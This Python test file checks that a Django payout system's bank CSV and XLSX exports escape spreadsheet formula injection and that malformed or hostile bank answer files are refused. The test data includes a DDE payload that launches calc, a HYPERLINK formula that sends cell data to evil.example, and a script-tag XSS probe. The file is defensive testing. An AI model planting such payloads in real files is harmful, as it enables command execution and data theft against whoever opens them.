"""Files of the bank's made to harm: cells that a spreadsheet would run, and answers that are none.
reliability.md row 17; ASVS V1.2.10, V5; K6."""

import csv
import io
import zipfile
from typing import Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st

from backend.core import sealing
from backend.core.models import AuditEntry
from commissions import payees, payouts
from commissions.admin import batches
from commissions.models import Journal, PayeeAccount
from commissions.names import BadHolderName
from commissions.providers import bank_file
from tests.commissions.money_out import AT, CARD, approved, earner, maker, officer
from tests.desk import signed_in

# Fourteen, and then some: what reads as the beginning of a formula, and what hides one.
STARTS = {
    "equals": "=1+1",
    "plus": "+1",
    "minus": "-1",
    "at": "@SUM(1)",
    "tab": "\t=1",
    "carriage return": "\r=1",
    "line feed": "\n=1",
    "null": "\x00=1",
    "full-width equals": "＝1",
    "full-width plus": "＋1",
    "full-width minus": "－1",
    "full-width at": "＠x",
    "leading spaces": "   =1",
    "ideographic space": "\u3000=1",
    "no-break space": "\u00a0=1",
    "zero-width space": "\u200b=1",
    "byte order mark": "\ufeff=1",
    "right-to-left": "\u202e=1",
    "word joiner": "\u2060+1",
    "soft hyphen": "\u00ad-1",
    "minus sign": "\u22121",
    "small equals": "﹦1",
    "small plus": "﹢1",
    "small minus": "﹣1",
    "small at": "﹫x",
    "superscript equals": "⁼1",
    "tab alone": "\tx",
    "null alone": "\x00x",
    "command": "=cmd|' /C calc'!A0",
    "dynamic data exchange": "+SUM(1+9)*cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("https://evil.example/?x="&A1,"name")',
}


def order(name: str = "李小鱼", number: str = CARD) -> bank_file.Order:
    """A row of a batch."""
    return bank_file.Order("P1", name, number, 100)


def cells_of(content: bytes) -> list[list[str]]:
    """The cells of a CSV as a program reads them."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


# ---------------------------------------------------------------- what goes out
@pytest.mark.parametrize("start", STARTS)
def test_no_cell_of_a_file_begins_like_a_formula(start: str) -> None:
    text = STARTS[start]
    for given_order in (order(name=text), order(number=text)):
        for line in cells_of(bank_file.write_csv([given_order])):
            for cell in line:
                assert bank_file.safe(cell) == cell, "made safe already"
        sheet: Any = openpyxl.load_workbook(io.BytesIO(bank_file.write_xlsx([given_order]))).active
        for row in sheet.iter_rows():
            for shown in row:
                assert shown.data_type in ("s", "n", "inlineStr")
                assert shown.value is None or bank_file.safe(str(shown.value)) == shown.value


@given(st.text(max_size=20))
@settings(max_examples=300, deadline=None)
def test_whatever_the_name_its_cell_begins_with_no_formula(text: str) -> None:
    made = bank_file.safe(text)
    assert made in (text, f"'{text}")
    assert bank_file.safe(made) == made
    assert made.lstrip()[:1] not in ("=", "+", "-", "@")


@pytest.mark.parametrize(
    "text", ["李小鱼", "O'Neill-Li = x", "林-达", "1.00", "a@b", "Ａｎｎａ", ""]
)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert bank_file.safe(text) == text


def test_a_spreadsheet_holds_no_formula_link_or_macro() -> None:
    content = bank_file.write_xlsx([order(name=text) for text in STARTS.values()])
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        names = set(book.namelist())
        whole = b"".join(book.read(name) for name in names)
    assert b"<f>" not in whole
    assert b"<hyperlink" not in whole
    assert not [name for name in names if "vba" in name.lower() or "external" in name.lower()]


def test_a_hostile_name_goes_out_harmless_from_the_door_on(db: None) -> None:
    """The door takes no formula for a name, and what stands there is made safe on its way out."""
    account = earner(number=CARD, provider="bank_file")
    name = "=cmd|' /C calc'!A0"
    with pytest.raises(BadHolderName):
        payees.add(account=account, provider="bank_file", holder_name=name, number=CARD, at=AT)
    # As a row from before names were looked at.
    PayeeAccount.objects.update(holder_name_sealed=sealing.seal(name))
    approved(account)
    batch = payouts.build_batch(by=maker(), at=AT)
    content = payouts.batch_file(number=batch.number, kind="csv", by=maker(), at=AT)
    assert cells_of(content)[1][1] == "'=cmd|' /C calc'!A0"


# ---------------------------------------------------------------- what comes back
HEAD = b"number,amount_yuan,result,reason\n"
HOSTILE = {
    "nothing": b"",
    "only the header": HEAD,
    "no total": HEAD + b"P1,1.00,paid,\n",
    "a bare total": HEAD + b"P1,1.00,paid,\nTOTAL",
    "a total without a count": HEAD + b"P1,1.00,paid,\nTOTAL,1.00",
    "a wrong sum": HEAD + b"P1,1.00,paid,\nTOTAL,2.00,1,",
    "a wrong count": HEAD + b"P1,1.00,paid,\nTOTAL,1.00,2,",
    "a total in words": HEAD + b"P1,1.00,paid,\nTOTAL,one,1,",
    "another header": b"number,amount,result,reason\nP1,1.00,paid,\nTOTAL,1.00,1,",
    "columns swapped": b"amount_yuan,number,result,reason\n1.00,P1,paid,\nTOTAL,1.00,1,",
    "a column too many": HEAD + b"P1,1.00,paid,,x\nTOTAL,1.00,1,",
    "a column too few": HEAD + b"P1,1.00\nTOTAL,1.00,1,",
    "semicolons": HEAD.replace(b",", b";") + b"P1;1.00;paid;\nTOTAL;1.00;1;",
    "another word for paid": HEAD + b"P1,1.00,PAID,\nTOTAL,1.00,1,",
    "a formula as amount": HEAD + b"P1,=1+1,paid,\nTOTAL,1.00,1,",
    "a negative amount": HEAD + b"P1,-1.00,paid,\nTOTAL,-1.00,1,",
    "full-width digits": HEAD + "P1,１.００,paid,\nTOTAL,1.00,1,".encode(),
    "a comma for the point": HEAD + b'P1,"1,00",paid,\nTOTAL,1.00,1,',
    "three decimals": HEAD + b"P1,1.000,paid,\nTOTAL,1.00,1,",
    "thousands": HEAD + b'P1,"1,000.00",paid,\nTOTAL,1000.00,1,',
    "a huge amount": HEAD + b"P1," + b"9" * 40 + b".00,paid,\nTOTAL,1.00,1,",
    "an exponent": HEAD + b"P1,1e5,paid,\nTOTAL,100000.00,1,",
    "not a number": HEAD + b"P1,NaN,paid,\nTOTAL,NaN,1,",
    "an open quote": HEAD + b'P1,"1.00,paid,\nTOTAL,1.00,1,',
    "nulls": HEAD + b"P1\x00,1.00,paid,\nTOTAL,1.00,1,",
    "UTF-16": (HEAD + b"P1,1.00,paid,\nTOTAL,1.00,1,").decode().encode("utf-16"),
    "UTF-32": (HEAD + b"P1,1.00,paid,\nTOTAL,1.00,1,").decode().encode("utf-32"),
    "a spreadsheet": bank_file.write_xlsx([order()]),
    "a picture": b"\x89PNG\r\n\x1a\n" + bytes(range(256)),
    "random bytes": bytes(range(255, 127, -1)) * 9,
    "a cell of a megabyte": HEAD + b"P1,1.00,paid," + b"x" * 2**20 + b"\nTOTAL,1.00,1,",
    "too many rows": HEAD + b"P1,1.00,paid,\n" * (bank_file.MAX_ROWS + 1),
    "too many bytes": b"x" * (bank_file.MAX_BYTES + 1),
    "a web page": b"<html><script>alert(1)</script></html>",
}


@pytest.mark.parametrize("what", HOSTILE)
def test_what_is_no_answer_is_refused_whole(what: str) -> None:
    with pytest.raises(bank_file.Unreadable) as refused:
        bank_file.read_answer(HOSTILE[what])
    assert len(str(refused.value)) < 200


@given(st.binary(max_size=400))
@settings(max_examples=300, deadline=None)
def test_any_bytes_are_read_or_refused(content: bytes) -> None:
    for text in (content, HEAD + content, HEAD + b"P1,1.00,paid,\nTOTAL" + content):
        try:
            bank_file.read_answer(text)
        except bank_file.Unreadable:
            continue


def test_at_the_desk_hostile_answers_move_nothing_and_are_told(db: None) -> None:
    payout = approved(earner(number=CARD, provider="bank_file"))
    batch = payouts.build_batch(by=maker(), at=AT)
    client = signed_in(officer("prepare_payout", "view_payoutbatch"))
    path = reverse("admin:commissions_payoutbatch_read_answer", args=[batch.pk])
    journals = Journal.objects.count()
    for what, content in HOSTILE.items():
        page = client.post(path, {"file": SimpleUploadedFile("answer.csv", content)}, follow=True)
        assert page.status_code == 200, what
        shown = page.content.decode()
        assert "<script>alert(1)" not in shown
        refused = ("cannot be read", "file is empty", "At most 4 MiB")
        assert any(words in shown for words in refused), what
    payout.refresh_from_db()
    assert payout.status == "sending"
    assert Journal.objects.count() == journals
    assert not AuditEntry.objects.filter(action="payout_batch.answer").exists()


def test_a_large_answer_is_refused_before_it_is_read(db: None) -> None:
    form = batches.AnswerFile({}, {"file": SimpleUploadedFile("a.csv", b"x")})
    form.files["file"].size = batches.ANSWER_MAX_BYTES + 1
    assert not form.is_valid()
    assert batches.ANSWER_MAX_BYTES == bank_file.MAX_BYTES


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
def test_answers_in_the_banks_encodings_are_read(encoding: str) -> None:
    text = "number,amount_yuan,result,reason\nP1,1.00,failed,账户已注销\nTOTAL,1.00,1,\n"
    (row,) = bank_file.read_answer(text.encode(encoding))
    assert (row.number, row.amount_fen, row.paid, row.reason) == ("P1", 100, False, "账户已注销")


def test_what_the_bank_writes_is_shown_and_never_run(db: None) -> None:
    """A reason with markup, or a formula, stays text in the admin."""
    payout = approved(earner(number=CARD, provider="bank_file"))
    batch = payouts.build_batch(by=maker(), at=AT)
    reason = "=HYPERLINK(1)<script>alert(1)</script>"
    text = (
        f"number,amount_yuan,result,reason\n{payout.number},10.00,failed,{reason}\nTOTAL,10.00,1,\n"
    )
    payouts.read_answer(number=batch.number, content=text.encode(), by=maker(), at=AT)
    payout.refresh_from_db()
    assert payout.reason == f"bank: {reason}"
    client = signed_in(officer("view_payout"))
    for path in (
        reverse("admin:commissions_payout_change", args=[payout.pk]),
        reverse("admin:commissions_payoutbatch_change", args=[batch.pk]),
    ):
        shown = client.get(path).content.decode()
        assert "<script>alert(1)" not in shown
